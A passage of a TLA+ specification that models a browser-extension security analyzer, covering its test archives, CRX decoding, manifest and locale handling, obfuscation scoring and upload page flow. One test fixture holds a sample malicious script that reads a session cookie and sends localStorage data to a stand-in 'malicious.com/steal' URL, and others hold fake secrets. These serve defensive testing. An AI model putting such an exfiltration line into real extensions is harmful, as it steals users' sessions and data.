        sensitiveScript == "\n      chrome.cookies.get({ name: 'session' });\n      const api_key = \"AIzaSyB-123456789012345678901234567890\";\n      fetch('https://malicious.com/steal?data=' + localStorage.getItem('data'));\n    "
        \* analyzer.test.ts:45-49
        vulnerableManifest == "{\"name\":\"Vulnerable Extension\",\"version\":\"1.0\",\"manifest_version\":3}"
        \* analyzer.test.ts:63-67
        crxManifest == "{\"name\":\"CRX Extension\",\"version\":\"1.0\",\"manifest_version\":3}"
        truncatedManifest == "{\"name\":\"Broken Extension\",\"version\":"
        criticalManifest == "{\"name\":\"Toolbox\",\"manifest_version\":2,\"permissions\":[\"debugger\",\"cookies\",\"history\",\"proxy\",\"webRequest\"],\"host_permissions\":[\"<all_urls>\",\"cookies\"]}"
        highManifest == "{\"name\":\"Helper\",\"version\":\"2.1\",\"manifest_version\":3,\"permissions\":[\"debugger\",\"cookies\",\"history\",\"proxy\",\"webRequest\"],\"host_permissions\":[\"<all_urls>\"]}"
        mediumManifest == "{\"manifest_version\":3,\"permissions\":[\"debugger\",\"cookies\"],\"host_permissions\":[\"<all_urls>\"]}"
        localizedManifest == "{ \"name\": \"__MSG_appName__\", \"version\": \"3.0\", \"manifest_version\": 3,\n  \"default_locale\": \"de\", \"icons\": { \"128\": \"icon.png\" } }"
        localeMessages == "{\"appName\":{\"message\":\"Localized Extension\"}}"
        obfuscatedScript == "var _0x4f2a = ['log'];\nconsole[_0x4f2a[0]]('x');"
        futureManifest == "{\"name\":\"Next\",\"version\":\"1.0\",\"manifest_version\":4}"
        iconManifest == "{\"name\":\"Icon\",\"manifest_version\":3,\"icons\":{\"16\":\"img/icon.jpg\"}}"
        twoSecrets == "var token = \"abcdefghij1234\";\nvar password = 'hunter2-hunter2';"
        oneSecret == "var token = \"zyxwvutsrq-9876\";"
        LocalizedManifest(named, locale) ==
            "{\"name\":\"" \o named \o "\",\"version\":\"1.0\",\"manifest_version\":3" \o locale \o "}"
        Messages(key, message) == "{\"" \o key \o "\":{\"message\":\"" \o message \o "\"}}"
        \* a script of 82 different characters, one of 104 one-letter
        \* identifiers, and one of a single line of 512 characters
        denseScript == "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789!#%&*+,-./:;<=>?@^|~"
        Twice(text) == text \o text
        terseScript == "a!b#c%d&e*f+g,h-i.j/k:l;m<n=o>p?q@r^s|t~u v!w#x%y&z*A+B,C-D.E/F:G;H<I=J>K?L@M^N|O~P Q!R#S%T&U*V+W,X-Y.Z/a:b;c<d=e>f?g@h^i|j~k l!m#n%o&p*q+r,s-t.u/v:w;x<y=z>A?B@C^D|E~F G!H#I%J&K*L+M,N-O.P/Q:R;S<T=U>V?W@X^Y|Z~"
        longScript == Twice(Twice(Twice(Twice(Twice(Twice(Twice(Twice(Twice("0")))))))))
        plainScript == "var total = 1;\nvar count = total + 1;"
    IN  << \* 1: scenario A
           <<Entry("manifest.json", basicManifest, "file")>>,
           \* 2: scenario B
           <<Entry("manifest.json", sensitiveManifest, "file"), Entry("background.js", sensitiveScript, "file")>>,
           \* 3: two files of the same library
           <<Entry("manifest.json", vulnerableManifest, "file"), Entry("jquery-1.js", "", "file"),
             Entry("jquery-2.js", "", "file")>>,
           \* 4: the archive of the CRX test
           <<Entry("manifest.json", crxManifest, "file")>>,
           \* 5: no manifest.json at the root
           <<Entry("ext/", "", "folder"), Entry("ext/manifest.json", crxManifest, "file"),
             Entry("background.js", "fetch('/');", "file")>>,
           \* 6: a manifest that is not JSON
           <<Entry("manifest.json", truncatedManifest, "file"), Entry("background.js", "fetch('/');", "file")>>,
           \* 7, 8: manifests that are JSON but no objects
           <<Entry("manifest.json", "null", "file")>>,
           <<Entry("manifest.json", " [ ] ", "file")>>,
           \* 9, 10: corrupt entries
           <<Entry("manifest.json", "", "corrupt")>>,
           <<Entry("manifest.json", crxManifest, "file"), Entry("content.js", "", "corrupt")>>,
           \* 11, 12, 13: the risk levels Critical, High and Medium
           <<Entry("manifest.json", criticalManifest, "file"), Entry("lib/lodash.min.js", "", "file"),
             Entry("lib/jQuery.js", "", "file"), Entry("main.js", obfuscatedScript, "file")>>,
           <<Entry("manifest.json", highManifest, "file"), Entry("vendor/lodash.js", "", "file"),
             Entry("jquery.js", "", "file")>>,
           <<Entry("manifest.json", mediumManifest, "file")>>,
           \* 14: a localized name and an icon
           <<Entry("manifest.json", localizedManifest, "file"), Entry("_locales/", "", "folder"),
             Entry("_locales/en/messages.json", localeMessages, "file"), Entry("icon.png", "PNG!", "file")>>,
           \* 15: a manifest version that is neither 2 nor 3
           <<Entry("manifest.json", futureManifest, "file")>>,
           \* 16, 17: an icon whose entry is corrupt, and one whose entry is missing
           <<Entry("manifest.json", iconManifest, "file"), Entry("img/icon.jpg", "", "corrupt")>>,
           <<Entry("manifest.json", iconManifest, "file"), Entry("img/", "", "folder")>>,
           \* 18, 19: the same paths, with two secrets and with another one in
           \* the script, and a secret in an entry that is not scanned
           <<Entry("manifest.json", crxManifest, "file"), Entry("js/app.js", twoSecrets, "file"),
             Entry("popup.html", "<p>token</p>", "file"), Entry("notes.txt", oneSecret, "file")>>,
           <<Entry("manifest.json", crxManifest, "file"), Entry("js/app.js", oneSecret, "file"),
             Entry("popup.html", "<p>token</p>", "file"), Entry("notes.txt", twoSecrets, "file")>>,
           \* 20: the default locale and English both have the name, English first in the archive
           <<Entry("manifest.json", LocalizedManifest("__MSG_appName__", ",\"default_locale\":\"fr\""), "file"),
             Entry("_locales/en/messages.json", Messages("appName", "English Name"), "file"),
             Entry("_locales/fr/messages.json", Messages("appName", "Nom Francais"), "file")>>,
           \* 21: the file of the default locale is no JSON, that of en_US has an
           \* empty message; en_GB and, earlier in the archive, es have the name
           <<Entry("manifest.json", LocalizedManifest("__MSG_appName__", ",\"default_locale\":\"fr\""), "file"),
             Entry("_locales/es/messages.json", Messages("appName", "Nombre"), "file"),
             Entry("_locales/fr/messages.json", "{\"appName\":", "file"),
             Entry("_locales/en_US/messages.json", Messages("appName", ""), "file"),
             Entry("_locales/en_GB/messages.json", Messages("appName", "British Name"), "file")>>,
           \* 22: no default locale; the English file cannot be read, the Spanish
           \* one has another key, the Japanese one has the name
           <<Entry("manifest.json", LocalizedManifest("__MSG_appName__", ""), "file"),
             Entry("_locales/en/messages.json", "", "corrupt"),
             Entry("_locales/es/messages.json", Messages("appTitle", "Titulo"), "file"),
             Entry("_locales/ja/messages.json", Messages("appName", "Namae"), "file")>>,
           \* 23: no locale has the name
           <<Entry("manifest.json", LocalizedManifest("__MSG_appName__", ",\"default_locale\":\"de\""), "file"),
             Entry("_locales/de/messages.json", "null", "file"),
             Entry("_locales/en/messages.json", Messages("appTitle", "Title"), "file"),
             Entry("locales/en/messages.json", Messages("appName", "Elsewhere"), "file")>>,
           \* 24: a name with two underscores inside
           <<Entry("manifest.json", LocalizedManifest("__MSG_a__b__", ""), "file"),
             Entry("_locales/en/messages.json",
                   "{\"a__b\":{\"message\":\"Inner Key\"},\"ab__\":{\"message\":\"Other Key\"}}", "file")>>,
           \* 25: a name that begins like a placeholder and does not end like one
           <<Entry("manifest.json", LocalizedManifest("__MSG_appName", ""), "file"),
             Entry("_locales/en/messages.json", Messages("appName", "Localized Extension"), "file")>>,
           \* 26: one signal (entropy); 27: two signals (entropy, short identifiers)
           <<Entry("manifest.json", crxManifest, "file"), Entry("dense.js", denseScript, "file")>>,
           <<Entry("manifest.json", crxManifest, "file"), Entry("terse.js", terseScript, "file")>>,
           \* 28: an obfuscator's signature in the first script, plain scripts after it
           <<Entry("manifest.json", crxManifest, "file"), Entry("a.js", obfuscatedScript, "file"),
             Entry("b.js", plainScript, "file"), Entry("c.js", "fetch('/');", "file")>>,
           \* 29: the terse script among four plain ones
           <<Entry("manifest.json", crxManifest, "file"), Entry("b.js", plainScript, "file"),
             Entry("terse.js", terseScript, "file"), Entry("c.js", plainScript, "file"),
             Entry("d.js", "", "file"), Entry("e.js", "eval(d);", "file")>>,
           \* 30: one signal (long lines)
           <<Entry("manifest.json", crxManifest, "file"), Entry("long.js", longScript, "file")>> >>

\* The bytes of the k-th archive, standing for the ZIP file JSZip writes and
\* reads: the ZIP signature "PK" and the number of the archive.
ZipBytes(k) == <<80, 75, k>>

\* JSZip.loadAsync: the outcomes for a buffer.  The bytes of an archive give
\* that archive; bytes that end with an archive after other bytes may be
\* read as that archive or refused (the reader finds a ZIP by its end); any
\* other buffer is refused.
LoadAsync(bytes) ==
    LET held == {k \in DOMAIN Archives :
                    Len(bytes) >= 3 /\ SubSeq(bytes, Len(bytes) - 2, Len(bytes)) = ZipBytes(k)}
    IN  {[zip |-> Archives[k]] : k \in held}
        \cup (IF held = {} \/ Len(bytes) > 3 THEN {[error |-> "InvalidArchive"]} ELSE {})

\* A buffer with the magic 'Cr24', a version, the words that follow it, each
\* written as DataView.prototype.setUint32(offset, n, true) writes it, and a body.
Framed(version, words, body) ==
    LET Uint32Bytes(n) == <<n.lo % 256, n.lo \div 256, n.hi % 256, n.hi \div 256>>
    IN  <<67, 114, 50, 52>> \o Uint32Bytes(NumOf(version))
            \o (IF Len(words) >= 1 THEN Uint32Bytes(words[1]) ELSE <<>>)
            \o (IF Len(words) >= 2 THEN Uint32Bytes(words[2]) ELSE <<>>)
            \o body

\* analyzer.test.ts:70-77: payload wrapped in a CRX3 header of h bytes.
Crx3(h, payload) == Framed(3, <<NumOf(h)>>, [i \in 1..h |-> 255 - i] \o payload)

\* payload behind a CRX2 header with a key of keyLen and a signature of sigLen bytes.
Crx2(keyLen, sigLen, payload) ==
    Framed(2, <<NumOf(keyLen), NumOf(sigLen)>>, [i \in 1..(keyLen + sigLen) |-> 255 - i] \o payload)

\* The longest header wrapped around every payload.
MaxHeaderLength == 2

\* analyzer.test.ts:70.
TestHeaderLength == 10

\* The payloads wrapped: every archive, and bytes that are no archive.
Payloads == {ZipBytes(k) : k \in DOMAIN Archives} \cup {<<1, 2, 3, 4>>, <<0>>}

\* The buffers analysed: archives as they are, CRX3 and CRX2 files, their
\* truncations, headers that declare more bytes than the buffer holds,
\* other versions, and buffers whose first bytes are not the magic.
Buffers ==
    LET Prefixes(bytes) == {SubSeq(bytes, 1, n) : n \in 0..Len(bytes)}
        allOnes == Num(HalfWord - 1, HalfWord - 1)
        Behind(four, bytes) == four \o SubSeq(bytes, 5, Len(bytes))
    IN  Payloads
        \cup {Crx3(h, p) : h \in (0..MaxHeaderLength) \cup {TestHeaderLength}, p \in Payloads}
        \cup {Crx2(k, g, p) : k \in 0..MaxHeaderLength, g \in 0..1, p \in {ZipBytes(1), ZipBytes(4), <<1, 2, 3, 4>>}}
        \cup Prefixes(Crx3(1, ZipBytes(4)))
        \cup Prefixes(Crx2(1, 1, ZipBytes(4)))
        \cup Prefixes(Framed(4, <<>>, <<>>))
        \cup {Framed(3, <<n>>, ZipBytes(4)) : n \in {NumOf(3), NumOf(4), Num(1, 0), allOnes}}
        \cup {Framed(2, <<n, m>>, ZipBytes(4)) : n, m \in {NumOf(0), NumOf(3), allOnes}}
        \cup {Framed(v, <<NumOf(0), NumOf(0)>>, ZipBytes(4)) : v \in {0, 1, 4, HalfWord + 3}}
        \cup {Behind(<<67, 114, 0, 0>>, Crx3(1, ZipBytes(4))), Behind(<<67, 114, 50, 53>>, Crx3(0, ZipBytes(4))),
              <<1, 2, 3>>, <<80, 75>>}

\* The file arguments: every buffer as a Uint8Array (as the tests pass it),
\* some as views inside a larger buffer, and archives as an ArrayBuffer and
\* as a Blob.
Files ==
    LET File(kind, buffer, byteOffset, byteLength) ==
            [kind |-> kind, buffer |-> buffer, byteOffset |-> byteOffset, byteLength |-> byteLength]
    IN  {File("Uint8Array", b, 0, Len(b)) : b \in Buffers}
        \cup {File("Uint8Array", <<9, 9>> \o SubSeq(Crx3(1, ZipBytes(4)), 1, n) \o <<7>>, 2, n) : n \in 0..16}
        \cup {File("ArrayBuffer", ZipBytes(k), 0, 3) : k \in DOMAIN Archives}
        \cup {File("Blob", Crx3(TestHeaderLength, ZipBytes(k)), 0, 25) : k \in DOMAIN Archives}

\* The reputations passed along with a file: that of the scoring test
\* (part_000:7-15, updated at the first of the moments), one updated close
\* to six periods of 30 days before the moments, and one never updated.
Reputations ==
    LET Reputation(rating, ratingCount, userCount, lastUpdated, badges) ==
            [publisher |-> "Dev", rating |-> rating, ratingCount |-> ratingCount, userCount |-> userCount,
             lastUpdated |-> lastUpdated, isFeatured |-> badges, isVerifiedPublisher |-> badges]
    IN  {Reputation(5 * Milli, 100000, "10,000,000+", "2026-11-01T12:00:00.000Z", TRUE),
         Reputation(4 * Milli, 100, "1,000", "2026-05-10", FALSE),
         Reputation(0, 0, "0", "", FALSE)}

\* The calls: every file without a reputation, and the archives of the
\* scenarios A and B with each reputation.
Init ==
    /\ fn = "analyzeExtension"
    /\ args \in [file : Files, externalReputation : {<<>>}]
                \cup [file : {f \in Files : f.kind = "ArrayBuffer" /\ f.buffer \in {ZipBytes(1), ZipBytes(2)}},
                      externalReputation : {<<r>> : r \in Reputations}]
    /\ ret = <<>>
    /\ pc = "decode"
    /\ data = <<>>
    /\ zip = <<>>
    /\ manifest = <<>>
    /\ name = <<>>
    /\ icon = <<>>
    /\ error = ""
    /\ NoWeb

\* The promise is rejected: no result is returned.
Reject(kind) ==
    /\ pc' = "rejected"
    /\ error' = kind
    /\ UNCHANGED <<webVars, fn, args, ret>>

\* analyzer.ts:443-469, up to the await of JSZip.loadAsync.
DecodeFile ==
    /\ pc = "decode"
    /\ LET decoded == DecodeContainer(ToArrayBuffer(args.file))
       IN  IF "error" \in DOMAIN decoded
           THEN Reject(decoded.error) /\ UNCHANGED <<data, zip, manifest, name, icon>>
           ELSE /\ data' = decoded.data
                /\ pc' = "load"
                /\ UNCHANGED <<webVars, fn, args, ret, zip, manifest, name, icon, error>>

\* analyzer.ts:471-476: the archive reader resolves with one of the archives
\* the bytes may hold, or rejects; then manifest.json is looked up.
LoadArchive ==
    /\ pc = "load"
    /\ \E outcome \in LoadAsync(data) :
           IF "error" \in DOMAIN outcome
           THEN Reject(outcome.error) /\ UNCHANGED <<data, zip, manifest, name, icon>>
           ELSE /\ zip' = outcome.zip
                /\ IF ZipFile(outcome.zip, "manifest.json") = <<>>
                   THEN /\ pc' = "rejected"
                        /\ error' = "manifest.json not found in extension"
                   ELSE /\ pc' = "manifest"
                        /\ error' = error
                /\ UNCHANGED <<webVars, fn, args, ret, data, manifest, name, icon>>

\* analyzer.ts:478-483: the manifest is read and parsed, and the name taken
\* from it.
ReadManifest ==
    /\ pc = "manifest"
    /\ LET manifestFile == ZipFile(zip, "manifest.json")[1]
           parsed == JsonParse(manifestFile.text)
           named == OrElse(Get(parsed.value, "name"), Str("Unknown"))
       IN  IF manifestFile.unreadable
           THEN Reject("EntryReadError") /\ UNCHANGED <<data, zip, manifest, name, icon>>
           ELSE IF ~parsed.ok
           THEN Reject("SyntaxError") /\ UNCHANGED <<data, zip, manifest, name, icon>>
           ELSE IF Nullish(parsed.value)
           THEN /\ manifest' = <<parsed.value>>
                /\ Reject("TypeError")
                /\ UNCHANGED <<data, zip, name, icon>>
           ELSE IF named.t # "str"
           THEN /\ manifest' = <<parsed.value>>
                /\ name' = <<named>>
                /\ Reject("TypeError")
                /\ UNCHANGED <<data, zip, icon>>
           ELSE /\ manifest' = <<parsed.value>>
                /\ name' = <<named>>
                /\ pc' = IF StartsWith(named.v, "__MSG_") THEN "locale" ELSE "icon"
                /\ UNCHANGED <<webVars, fn, args, ret, data, zip, icon, error>>

\* analyzer.ts:484 with 539-575.
ResolveName ==
    /\ pc = "locale"
    /\ name' = <<ResolveLocaleString(zip, manifest[1], name[1].v)>>
    /\ pc' = "icon"
    /\ UNCHANGED <<webVars, fn, args, ret, data, zip, manifest, icon, error>>

\* analyzer.ts:487-499.
ExtractIcon ==
    /\ pc = "icon"
    /\ LET icons == Get(manifest[1], "icons")
           iconPath == IF Truthy(icons)
                       THEN OrElse(OrElse(Get(icons, "48"), Get(icons, "128")), Get(icons, "16"))
                       ELSE JsUndefined
           iconFile == IF Truthy(iconPath) THEN ZipFile(zip, TemplateText(iconPath)) ELSE <<>>
       IN  IF iconFile = <<>>
           THEN pc' = "analyze" /\ UNCHANGED <<webVars, fn, args, ret, data, zip, manifest, name, icon, error>>
           ELSE IF iconFile[1].unreadable
           THEN Reject("EntryReadError") /\ UNCHANGED <<data, zip, manifest, name, icon>>
           ELSE IF iconPath.t # "str"
           THEN Reject("TypeError") /\ UNCHANGED <<data, zip, manifest, name, icon>>
           ELSE /\ icon' = <<"data:" \o (IF EndsWith(iconPath.v, ".png") THEN "image/png" ELSE "image/jpeg")
                             \o ";base64," \o Base64(iconFile[1].text)>>
                /\ pc' = "analyze"
                /\ UNCHANGED <<webVars, fn, args, ret, data, zip, manifest, name, error>>

\* analyzer.ts:518-536.
AnalysisResult(permissions, manifestVersion, scan, vulnerabilities, risk, reputationScore) ==
    [name |-> name[1],
     version |-> OrElse(Get(manifest[1], "version"), Str("0.0.0")),
     icon |-> icon,
     manifestVersion |-> manifestVersion,
     permissions |-> permissions,
     apiCalls |-> scan.apiCalls,
     secrets |-> scan.secrets,
     dependencies |-> scan.dependencies,
     vulnerabilities |-> vulnerabilities,
     cvssScore |-> HighestCVSS(vulnerabilities, 0),
     riskLevel |-> risk.level,
     riskScore |-> risk.score,
     riskEquation |-> risk.equation,
     isObfuscated |-> scan.isObfuscated,
     obfuscationScore |-> scan.obfuscationScore,
     reputation |-> args.externalReputation,
     reputationScore |-> reputationScore]

\* analyzer.ts:501-536: the permissions are classified, the entries scanned,
\* the scores computed and the result returned; now is the value of
\* new Date() when the reputation score is computed.
AnalyzeContents ==
    /\ pc = "analyze"
    /\ LET declared == PermissionList(OrElse(Get(manifest[1], "permissions"), Arr(<<>>)))
           hosts == PermissionList(OrElse(Get(manifest[1], "host_permissions"), Arr(<<>>)))
           manifestVersion == OrElse(Get(manifest[1], "manifest_version"), Number(2))
           \* 513-536
           Resolved(permissions, scan, vulnerabilities, risk) ==
               /\ \E now \in Times :
                      ret' = <<AnalysisResult(permissions, manifestVersion, scan, vulnerabilities, risk,
                                  IF args.externalReputation = <<>> THEN <<>>
                                  ELSE <<CalculateReputationScore(args.externalReputation[1], now)>>)>>
               /\ pc' = "resolved"
               /\ UNCHANGED <<webVars, fn, args, data, zip, manifest, name, icon, error>>
           \* 506-511
           Assessed(permissions, scan, vulnerabilities) ==
               Resolved(permissions, scan, vulnerabilities,
                        CalculateDetailedRisk(permissions, vulnerabilities,
                                              NumberOf(manifestVersion), scan.obfuscationScore))
           \* 503-504
           Scanned(permissions, scan) ==
               IF "error" \in DOMAIN scan
               THEN Reject(scan.error) /\ UNCHANGED <<data, zip, manifest, name, icon>>
               ELSE Assessed(permissions, scan, DetectVulnerabilities(scan.dependencies))
       IN  IF declared = <<>> \/ hosts = <<>>
           THEN Reject("TypeError") /\ UNCHANGED <<data, zip, manifest, name, icon>>
           ELSE Scanned(AnalyzePermissions(declared[1], hosts[1]), AnalyzeSourceCode(zip))

Next == DecodeFile \/ LoadArchive \/ ReadManifest \/ ResolveName \/ ExtractIcon \/ AnalyzeContents

Spec == Init /\ [][Next]_vars

-----------------------------------------------------------------------------
(* Calls of analyzeSourceCode and detectVulnerabilities (analyzer.ts:503-504) *)
(* on the entries of an archive in every order.                             *)

\* Most entries of an archive whose orders are tried.
MaxEntries == 4

\* The entries of the archives of at most MaxEntries entries, in every order.
ScanInputs ==
    LET Orders(n) == {f \in [1..n -> 1..n] : \A i, j \in 1..n : f[i] = f[j] => i = j}
        Ordered(files, f) == [i \in DOMAIN files |-> files[f[i]]]
    IN  UNION { {[files |-> Ordered(Archives[k], f)] : f \in Orders(Len(Archives[k]))} :
                k \in {a \in DOMAIN Archives : Len(Archives[a]) <= MaxEntries} }

InitScan ==
    /\ fn = "analyzeSourceCode"
    /\ args \in ScanInputs
    /\ ret = <<>>
    /\ NoRun
    /\ NoWeb

\* analyzer.ts:503-504: the scan, and the vulnerabilities of the dependencies
\* it found (a scan that rejects returns nothing further).
ScanResult(scan) ==
    IF "error" \in DOMAIN scan THEN scan
    ELSE [apiCalls |-> scan.apiCalls, secrets |-> scan.secrets, dependencies |-> scan.dependencies,
          isObfuscated |-> scan.isObfuscated, obfuscationScore |-> scan.obfuscationScore,
          vulnerabilities |-> DetectVulnerabilities(scan.dependencies)]

CallAnalyzeSourceCode ==
    /\ fn = "analyzeSourceCode"
    /\ ret = <<>>
    /\ ret' = <<ScanResult(AnalyzeSourceCode(args.files))>>
    /\ UNCHANGED <<webVars, fn, args, runVars>>

SpecScan == InitScan /\ [][CallAnalyzeSourceCode]_vars

-----------------------------------------------------------------------------
(* The page component (page.tsx:53-125) with its Uploader (Uploader.tsx).  *)
(* home is the state of Home: result and error are optional values.  A     *)
(* task is a call of handleFileUpload or handleUrlSubmit at one of its      *)
(* awaits; an uploaded file or a downloaded package stands for its content. *)

\* extractExtensionId (analyzer.ts:887-906), as an optional value; the
\* patterns ignore case, so they are tried on the lower-cased URL.
ExtractExtensionId(url) ==
    LET FirstId(chars) == MatchAll(<<Lit("/"), Cls(Chars(chars), 32, 32)>>, ToLowerCase(url))
        Found(store, matches) ==
            IF matches # <<>> THEN <<[id |-> SubSeq(matches[1], 2, 33), store |-> store]>> ELSE <<>>
        LastPart(parts) == Split(parts[Len(parts)], "?")[1]
        Fallback(found, lastPart) ==
            IF found # <<>> THEN found
            ELSE IF Len(lastPart) = 32 THEN <<[id |-> ToLowerCase(lastPart), store |-> "edge"]>>
            ELSE <<>>
    IN  IF Includes(url, "chrome.google.com/webstore") \/ Includes(url, "chromewebstore.google.com")
        THEN Found("chrome", FirstId("abcdefghijklmnop"))
        ELSE IF Includes(url, "microsoftedge.microsoft.com/addons")
        THEN Fallback(Found("edge", FirstId(LowerCaseLetters \o Digits)), LastPart(Split(url, "/")))
        ELSE <<>>

InitPage ==
    /\ fn = "Home"
    /\ args = <<>>
    /\ ret = <<>>
    /\ NoRun
    /\ home = [result |-> <<>>, loading |-> FALSE, error |-> <<>>]
    /\ uploader = [url |-> "", showFileUpload |-> FALSE]
    /\ tasks = {}
    /\ proxy = <<>>

\* Catch that also forgets the result stored.
CatchClearing(message) ==
    home' = [home EXCEPT !.result = <<>>, !.error = <<message>>, !.loading = FALSE]

\* page.tsx:64-68 and 101-105: catch with the message of the Error thrown,
\* then finally.
Catch(message) ==
    home' = [home EXCEPT !.error = <<message>>, !.loading = FALSE]

\* Uploader.tsx:36-43: typing in the URL input, which is disabled while
\* loading.
ChangeUrl(text) ==
    /\ fn = "Home"
    /\ ~home.loading
    /\ uploader' = [uploader EXCEPT !.url = text]
    /\ UNCHANGED <<callVars, runVars, home, tasks, proxy>>

\* Uploader.tsx:54-56.
ToggleFileUpload ==
    /\ fn = "Home"
    /\ uploader' = [uploader EXCEPT !.showFileUpload = ~uploader.showFileUpload]
    /\ UNCHANGED <<callVars, runVars, home, tasks, proxy>>

\* HandleFileChange with a file input that is never disabled.
HandleFileChangeWhileLoading(file) ==
    /\ fn = "Home"
    /\ uploader.showFileUpload
    /\ home' = [home EXCEPT !.loading = TRUE, !.error = <<>>]
    /\ tasks' = tasks \cup {[handler |-> "handleFileUpload", at |-> "analyze", input |-> "", extracted |-> <<>>,
                            metaRes |-> <<>>, binaryRes |-> <<>>, metadata |-> <<>>, file |-> file]}
    /\ UNCHANGED <<callVars, runVars, uploader, proxy>>

\* Uploader.tsx:14-19 with 63-76 and page.tsx:58-62: a file is chosen in the
\* file input, which is rendered while showFileUpload and disabled while
\* loading; handleFileUpload runs up to its await of analyzeExtension.
HandleFileChange(file) ==
    /\ fn = "Home"
    /\ uploader.showFileUpload
    /\ ~home.loading
    /\ home' = [home EXCEPT !.loading = TRUE, !.error = <<>>]
    /\ tasks' = tasks \cup {[handler |-> "handleFileUpload", at |-> "analyze", input |-> "", extracted |-> <<>>,
                            metaRes |-> <<>>, binaryRes |-> <<>>, metadata |-> <<>>, file |-> file]}
    /\ UNCHANGED <<callVars, runVars, uploader, proxy>>

\* Uploader.tsx:21-26 with 31 and 45-48, and page.tsx:71-75: the form is
\* submitted by its button, which is disabled while loading or while the
\* URL is blank; handleUrlSubmit sets loading, clears error and calls
\* extractExtensionId.
HandleSubmitUrl ==
    /\ fn = "Home"
    /\ ~(home.loading \/ Trim(uploader.url) = "")
    /\ home' = [home EXCEPT !.loading = TRUE, !.error = <<>>]
    /\ tasks' = tasks \cup {[handler |-> "handleUrlSubmit", at |-> "extracted", input |-> Trim(uploader.url),
                            extracted |-> ExtractExtensionId(Trim(uploader.url)),
                            metaRes |-> <<>>, binaryRes |-> <<>>, metadata |-> <<>>, file |-> ""]}
    /\ UNCHANGED <<callVars, runVars, uploader, proxy>>

\* page.tsx:76-86: without a store and an id the handler throws; otherwise
\* the two requests to the proxy are sent.
ThrowOrFetch ==
    /\ fn = "Home"
    /\ \E t \in tasks :
        /\ t.at = "extracted"
        /\ IF t.extracted = <<>>
           THEN /\ Catch("Unsupported or invalid URL. Please use Chrome Web Store or Microsoft Edge Addons links.")
                /\ tasks' = tasks \ {t}
           ELSE /\ tasks' = (tasks \ {t}) \cup {[t EXCEPT !.at = "fetch"]}
                /\ home' = home
    /\ UNCHANGED <<callVars, runVars, uploader, proxy>>

\* page.tsx:83-96: Promise.all settles.  A fetch rejects (the network is
\* down) or resolves with a response: ok or not, a body that holds JSON or
\* not, and for a download the package it carries.
FetchesSettle ==
    /\ fn = "Home"
    /\ \E t \in tasks :
        /\ t.at = "fetch"
        /\ LET Response(ok, json, blob) == [rejected |-> FALSE, ok |-> ok, json |-> json, blob |-> blob]
               rejected == [rejected |-> TRUE, ok |-> FALSE, json |-> <<>>, blob |-> ""]
               failure == Obj(<<"error">>, <<Str("Failed to download extension")>>)
               reputation == Obj(<<"publisher", "rating">>, <<Str("Dev"), Number(4500)>>)
           IN  \E metaRes \in {rejected, Response(FALSE, <<failure>>, ""), Response(TRUE, <<>>, ""),
                               Response(TRUE, <<[t |-> "null"]>>, ""), Response(TRUE, <<reputation>>, "")},
                  binaryRes \in {rejected, Response(FALSE, <<failure>>, ""), Response(FALSE, <<Obj(<<>>, <<>>)>>, ""),
                                 Response(FALSE, <<>>, ""),
                                 Response(TRUE, <<>>, t.extracted[1].id), Response(TRUE, <<>>, "broken")} :
                   IF metaRes.rejected \/ binaryRes.rejected
                   THEN /\ Catch("Failed to fetch")
                        /\ tasks' = tasks \ {t}
                   ELSE /\ tasks' = (tasks \ {t}) \cup
                               {[t EXCEPT !.at = IF ~binaryRes.ok THEN "errorData"
                                                 ELSE IF metaRes.ok THEN "metadata" ELSE "blob",
                                          !.metaRes = <<metaRes>>, !.binaryRes = <<binaryRes>>]}
                        /\ home' = home
    /\ UNCHANGED <<callVars, runVars, uploader, proxy>>

\* page.tsx:89-90, 95 and 98: a body is read, as JSON (which rejects with
\* a SyntaxError for a body that holds none) or as a blob.
BodyRead ==
    /\ fn = "Home"
    /\ \E t \in tasks :
        LET syntaxError == "Unexpected token '<', \"<!DOCTYPE \"... is not valid JSON"
        IN  \/ /\ t.at = "errorData"
               /\ IF t.binaryRes[1].json = <<>>
                  THEN Catch(syntaxError)
                  ELSE Catch(OrElse(Get(t.binaryRes[1].json[1], "error"), Str("Failed to download extension")).v)
               /\ tasks' = tasks \ {t}
            \/ /\ t.at = "metadata"
               /\ IF t.metaRes[1].json = <<>>
                  THEN Catch(syntaxError) /\ tasks' = tasks \ {t}
                  ELSE /\ tasks' = (tasks \ {t}) \cup {[t EXCEPT !.at = "blob", !.metadata = t.metaRes[1].json]}
                       /\ home' = home
            \/ /\ t.at = "blob"
               /\ tasks' = (tasks \ {t}) \cup {[t EXCEPT !.at = "analyze", !.file = t.binaryRes[1].blob]}
               /\ home' = home
    /\ UNCHANGED <<callVars, runVars, uploader, proxy>>

\* page.tsx:62-68 and 99-105: analyzeExtension settles.  It resolves with
\* the result for the package and the metadata passed (metadata || undefined),
\* or rejects with an Error for a package without manifest.
AnalysisSettles ==
    /\ fn = "Home"
    /\ \E t \in tasks :
        /\ t.at = "analyze"
        /\ IF t.file = "broken"
           THEN Catch("manifest.json not found in extension")
           ELSE home' = [home EXCEPT !.loading = FALSE,
                                     !.result = <<[package |-> t.file,
                                                   reputation |-> IF t.metadata # <<>> /\ Truthy(t.metadata[1])
                                                                  THEN t.metadata ELSE <<>>]>>]
        /\ tasks' = tasks \ {t}
    /\ UNCHANGED <<callVars, runVars, uploader, proxy>>

\* The steps of the user, with the texts typed and the files chosen, and
\* the steps of the handlers.
NextPage ==
    \/ \E text \in {"", "  ", " https://google.com ",
                    "https://chromewebstore.google.com/detail/google-translate/aapbdbdomjkkjkaonfhkkikfgjllcleb",
                    "https://chromewebstore.google.com/detail/google-translate/too-short",
                    "https://microsoftedge.microsoft.com/addons/detail/ublock-origin/odlbpnoocpeebfbbnocajebccdbogpbe"} :
           ChangeUrl(text)
    \/ ToggleFileUpload
    \/ \E file \in {"a.crx", "b.zip", "broken"} : HandleFileChange(file)
    \/ HandleSubmitUrl
    \/ ThrowOrFetch
    \/ FetchesSettle
    \/ BodyRead
    \/ AnalysisSettles

SpecPage == InitPage /\ [][NextPage]_vars

\* Every promise awaited settles and its continuation runs: the browser
\* ends each fetch with a response or an error, and analyzeExtension and
\* the body readers end.
SpecPageLive ==
    /\ SpecPage
    /\ WF_vars(ThrowOrFetch)
    /\ WF_vars(FetchesSettle)
    /\ WF_vars(BodyRead)
    /\ WF_vars(AnalysisSettles)

-----------------------------------------------------------------------------
(* The proxy route (route.ts).  args holds the query parameters of the       *)
(* request, each an optional value (searchParams.get gives null for a       *)
(* parameter that is absent); ret the response; proxy the await the handler *)
